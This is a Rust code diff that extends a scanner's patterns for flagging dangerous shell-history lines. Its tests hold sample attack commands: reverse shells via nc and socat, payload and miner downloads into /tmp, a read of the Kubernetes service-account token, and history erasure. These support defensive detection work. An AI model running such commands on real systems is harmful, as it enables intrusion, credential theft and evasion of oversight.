@@ -1,5 +1,6 @@
 //! Shell-history lines that fetch and run code, open reverse shells, decode and run,
-//! or make something in a temporary place executable.
+//! make something in a temporary place executable, fetch into a temporary place, read
+//! the pod's service-account token, or erase the history itself.
 
 use super::{ev, Finding, Severity};
 use crate::examine::facts::Facts;
@@ -45,6 +46,18 @@ pub const HISTORY_PATTERNS: &[(&str, &str)] = &[
         r"\bchmod\s+[^;|]*\+?x\s+/(tmp|var/tmp|dev/shm)/",
         "makes a file in a temporary place executable",
     ),
+    (
+        r"\b(curl|wget)\b[^|;&]*(\s-[a-zA-Z]*[oOP]\s*|\s--output(-document)?[= ]|\s--directory-prefix[= ]|>\s*)/(tmp|var/tmp|dev/shm)\b",
+        "fetches something into a temporary place",
+    ),
+    (
+        r"/(var/)?run/secrets/kubernetes\.io/serviceaccount/token|/var/run/secrets/eks\.amazonaws\.com/",
+        "reads the pod's service-account token",
+    ),
+    (
+        r"\bhistory\s+-c\b|\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null\b|\bHISTSIZE=0\b|\bset\s+\+o\s+history\b|\brm\b[^;|]*\.(bash|zsh|ash|sh)_history\b",
+        "erases or stops the shell history",
+    ),
 ];
 
 fn history_set() -> &'static RegexSet {
@@ -55,14 +68,19 @@ fn history_set() -> &'static RegexSet {
     })
 }
 
+/// What `line` does of [`HISTORY_PATTERNS`], in their words; empty for none.
+pub fn dangers(line: &str) -> Vec<&'static str> {
+    history_set()
+        .matches(line)
+        .iter()
+        .map(|i| HISTORY_PATTERNS[i].1)
+        .collect()
+}
+
 /// Shell-history lines that match [`HISTORY_PATTERNS`].
 pub fn commands(f: &Facts, out: &mut Vec<Finding>) {
     for l in &f.history {
-        let hits: Vec<&str> = history_set()
-            .matches(&l.text)
-            .iter()
-            .map(|i| HISTORY_PATTERNS[i].1)
-            .collect();
+        let hits = dangers(&l.text);
         if hits.is_empty() {
             continue;
         }
@@ -100,13 +118,24 @@ mod tests {
             "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f",
             "socat tcp:10.0.0.1:4444 exec:sh",
             "chmod +x /tmp/x",
+            "wget -O /tmp/kworker http://198.51.100.7/k",
+            "curl -so /dev/shm/.x http://198.51.100.7/x",
+            "cd /; wget -P /tmp http://198.51.100.7/miner",
+            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+            "history -c",
+            "unset HISTFILE",
+            "export HISTFILE=/dev/null",
+            "rm -f /root/.bash_history",
         ];
         let fine = [
             "ls -la",
             "curl -o out.json https://api/x",
+            "wget -O app.tar.gz https://example.org/app.tar.gz",
             "cat /etc/passwd | grep root",
             "nc -z db 5432",
             "chmod 644 /etc/x",
+            "history | tail",
+            "ls /var/run/secrets/kubernetes.io/serviceaccount/",
         ];
         let mut f = facts();
         f.history_files.push("files/root/.ash_history".into());
